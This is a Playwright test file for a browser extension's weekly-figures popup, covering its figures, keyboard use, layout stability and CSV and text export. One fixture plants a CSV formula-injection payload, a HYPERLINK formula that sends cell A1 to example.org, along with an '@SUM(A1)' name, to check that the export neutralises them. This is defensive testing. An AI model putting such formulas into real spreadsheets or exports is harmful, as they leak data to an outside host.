import { readFile } from 'node:fs/promises';
import { expect, type Page, test } from '@playwright/test';
import Papa from 'papaparse';
import { records, storyEnd, timeZone } from '../screens/records';
import { settled } from '../screens/screen';
import { openScreens, type ScreenBrowser } from '../screens/window';
import { countOf } from '../year/count';
import { fileOf, nobody } from '../year/year';

const day = 24 * 60 * 60 * 1000;
const lastWeek = storyEnd - 7 * day;

/** A reason that a spreadsheet would run, were it let. */
const formula = '=HYPERLINK("https://example.org/?"&A1,"Click")';

/** The made-up year, with an override of last week whose reason is that formula, and whose person is called like one. */
function withFormula() {
  const year = records.year();
  const person = year.people.find(({ site }) => site === 'x');
  if (!person) throw new Error('Nobody in the story is on X.');
  const named = { ...person, displayName: '@SUM(A1)', identities: [] };
  const own = { ...named, id: 'x:sum_a1', handle: 'sum_a1' };
  const { id, site, handle, displayName, certain } = own;
  const identities = [{ id, site, handle, displayName, certain, earlier: [] }];
  const line = {
    id: '00000000-0000-4000-8000-0000000000f1:overridden',
    at: lastWeek,
    event: 'overridden' as const,
    site,
    surface: 'reply' as const,
    people: [id],
    reason: formula,
  };
  const more = { ...nobody, people: [{ ...own, identities, merges: [] }], log: [line] };
  return { more, all: { ...year, log: [...year.log, line] } };
}

const { more, all } = withFormula();
const counted = countOf(all, timeZone);

let browser: ScreenBrowser;
test.describe.configure({ mode: 'default' });
test.beforeAll(async () => {
  browser = await openScreens({ record: 'year' });
  const data = await browser.page();
  await data.goto(`chrome-extension://${browser.extensionId}/options.html#data`);
  await data.getByLabel(browser.words('data.import.file'), { exact: true }).setInputFiles({
    name: 'more.json',
    mimeType: 'application/json',
    buffer: Buffer.from(fileOf(more, storyEnd)),
  });
  await data.locator('.job .said').waitFor();
  await data.close();
});
test.afterAll(() => browser.context.close());

/** A tab as large as a popup, at an instant of the story. */
async function openPopup(now = storyEnd, height = 600): Promise<Page> {
  const page = await browser.page();
  await page.clock.setFixedTime(now);
  await page.setViewportSize({ width: 400, height });
  await page.goto(`chrome-extension://${browser.extensionId}/popup.html`);
  await settled(page);
  return page;
}

/** A figure of the week, and last week's beside it. */
const figure = (page: Page, name: string) =>
  page
    .getByRole('table', { name: 'The week in figures' })
    .getByRole('row')
    .filter({ has: page.getByRole('rowheader', { name, exact: true }) })
    .locator('td');

async function goBack(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Previous week' }).click();
  await expect(page.locator('.running')).toHaveCount(0);
  await settled(page);
}

test('the figures on the screen are those that the rows give', async () => {
  const page = await openPopup();
  for (let weeksAgo = 0; weeksAgo < 4; weeksAgo++) {
    const { figures } = counted.week(storyEnd - weeksAgo * 7 * day);
    const { figures: before } = counted.week(storyEnd - (weeksAgo + 1) * 7 * day);
    const told: [string, (of: typeof figures) => string][] = [
      ['People talked with', (of) => `${of.peopleTalkedWith}`],
      ['Conversations, there and back', (of) => `${of.conversations}`],
      ['Touches out', (of) => `${of.touchesOut}`],
      ['Touches in', (of) => `${of.touchesIn}`],
      ['Days active', (of) => `${of.daysActive} of 7`],
      ['Earned', (of) => `${of.asks.earned}`],
      ['Held', (of) => `${of.asks.held}`],
      ['About us', (of) => `${Math.round((100 * of.findings['self-promotion']) / of.judged)}%`],
    ];
    for (const [name, of] of told) {
      await expect(figure(page, name)).toHaveText([of(figures), of(before)]);
    }
    const main = page.getByRole('main');
    await expect(main).toContainText(
      new RegExp(`You talked with\\s${figures.peopleTalkedWith}\\s`),
    );
    const { information, community, action } = figures.functions;
    const share = Math.round((100 * community) / (information + community + action));
    await expect(main).toContainText(`${share}%, nonprofits 25.8%`);
    await goBack(page);
  }
  await page.close();
});

test('on a Monday the popup opens on the week that has just ended, and what to do next', async () => {
  const monday = storyEnd + 5 * day - 6 * 60 * 60 * 1000;
  const page = await openPopup(monday);
  await expect(page.locator('.running')).toHaveText('last week');
  const { peopleTalkedWith } = counted.week(storyEnd).figures;
  await expect(page.getByRole('main')).toContainText(
    new RegExp(`You talked with\\s${peopleTalkedWith}\\s`),
  );
  await expect(page.getByRole('heading', { name: 'What to do next' })).toBeInViewport();
  await page.getByRole('button', { name: 'Next week' }).click();
  await expect(page.getByRole('heading', { name: 'A quiet week so far' })).toBeVisible();
  await page.close();
});

test('nothing moves while the popup comes in', async () => {
  const page = await browser.page();
  await page.addInitScript(() => {
    const shifts: string[] = [];
    Reflect.set(window, 'shifts', shifts);
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        const sources = Reflect.get(entry, 'sources') as { node?: Node }[];
        const nodes = sources.map(({ node }) => (node instanceof Element ? node.className : '?'));
        shifts.push(`${Reflect.get(entry, 'value')}: ${nodes.join(', ')}`);
      }
    }).observe({ type: 'layout-shift', buffered: true });
  });
  // As high as a popup, and as all that is in it: what lies below the edge is not to move either.
  for (const height of [600, 3_500]) {
    await page.setViewportSize({ width: 400, height });
    await page.goto(`chrome-extension://${browser.extensionId}/popup.html`);
    await settled(page);
    await expect(page.getByRole('button', { name: 'Save as CSV' })).toBeAttached();
    expect(await page.evaluate(() => Reflect.get(window, 'shifts'))).toEqual([]);
  }
  await page.close();
});

test('who needs no answer is ticked off in the list of who waits, and brought back', async () => {
  const page = await openPopup();
  const waiting = page.getByRole('region', { name: 'Waiting for our answer' });
  const first = waiting.getByRole('listitem').first().locator('.person-open');
  const name = await first.innerText();
  await waiting.getByRole('button', { name: `No answer needed: ${name}` }).click();
  await expect(first).not.toHaveText(name);
  const undo = page.getByRole('button', { name: 'Undo' });
  await expect(undo).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(first).toHaveText(name);
  await page.close();
});

test('the weeks are leafed through by keyboard, and the focus stays', async () => {
  const page = await openPopup();
  const heading = page.getByRole('heading', { level: 1 });
  const running = (await heading.textContent()) ?? '';
  const previous = page.getByRole('button', { name: 'Previous week' });
  const next = page.getByRole('button', { name: 'Next week' });
  await page.keyboard.press('Tab');
  await expect(page.getByRole('combobox', { name: 'Show' })).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(previous).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(heading).not.toHaveText(running);
  await expect(previous).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(next).toBeFocused();
  await page.keyboard.press('Space');
  await expect(heading).toHaveText(running);
  await expect(next).toHaveAttribute('aria-disabled', 'true');
  await page.keyboard.press('Enter');
  await expect(heading).toHaveText(running);
  await expect(next).toBeFocused();
  await page.close();
});

test('a site and an account are looked at by keyboard', async () => {
  const page = await openPopup();
  await goBack(page);
  const choice = page.getByRole('combobox', { name: 'Show' });
  const names = await choice.locator('option').allTextContents();
  expect(names.slice(0, 2)).toEqual(['All sites', 'X']);
  await choice.focus();
  const people = page.getByRole('table', { name: 'The week at a glance' }).locator('td').nth(1);
  const parts = [{ site: 'x' }, { site: 'x', account: names[2]?.replace('X: ', '') ?? '' }];
  for (const part of parts) {
    await page.keyboard.press('ArrowDown');
    const { peopleTalkedWith } = counted.week(lastWeek, part).figures;
    await expect(people).toHaveText(`${peopleTalkedWith}`);
    await expect(choice).toBeFocused();
  }
  await expect(page.locator('.running')).toHaveCount(0);
  await page.close();
});

test('the week is saved as CSV: its figures, its log, and no cell that a spreadsheet would run', async () => {
  const page = await openPopup();
  await goBack(page);
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Save as CSV' }).click();
  const file = await download;
  const { name, figures, log } = counted.week(lastWeek);
  expect(file.suggestedFilename()).toBe(`fifth-touch-${name}.csv`);
  const text = await readFile(await file.path(), 'utf8');
  const { data: rows, errors } = Papa.parse<string[]>(text, { skipEmptyLines: 'greedy' });
  expect(errors).toEqual([]);
  const cells = new Map(rows.map(([first = '', second = '']) => [first, second]));
  expect(rows[0]?.[1]).toBe(name);
  expect(cells.get('Keeping in touch: People talked with')).toBe(`${figures.peopleTalkedWith}`);
  expect(cells.get('Keeping in touch: Conversations, there and back')).toBe(
    `${figures.conversations}`,
  );
  expect(cells.get('Asks: Sent anyway')).toBe(`${figures.asks.overridden}`);
  const columns = rows.findIndex(([first]) => first === 'Day');
  const lines = rows.slice(columns + 1);
  expect(lines).toHaveLength(log.length);
  const ran = lines.find((line) => line[4]?.includes('HYPERLINK'));
  expect(ran?.[3]).toBe("'@SUM(A1)");
  expect(ran?.[4]).toBe(`'${formula}`);
  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  await page.close();
});

test('the week is copied as text, with its figures and without a name', async () => {
  await browser.context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const page = await openPopup();
  await goBack(page);
  await page.getByRole('button', { name: 'Copy as text' }).click();
  await expect(page.getByText('Copied.')).toBeVisible();
  const text = await page.evaluate(() => navigator.clipboard.readText());
  const { figures } = counted.week(lastWeek);
  const heading = await page.getByRole('heading', { level: 1 }).textContent();
  expect(text.split('\n')[0]).toBe(heading);
  expect(text).toContain(`• People talked with: ${figures.peopleTalkedWith} (Week before: `);
  expect(text).toContain(`• Touches out: ${figures.touchesOut} (`);
  expect(text).toContain('Lovejoy & Saxton 2012');
  const names = all.people.map(({ displayName }) => displayName).filter(({ length }) => length > 5);
  expect(names.filter((name) => text.includes(name))).toEqual([]);
  await page.close();
});
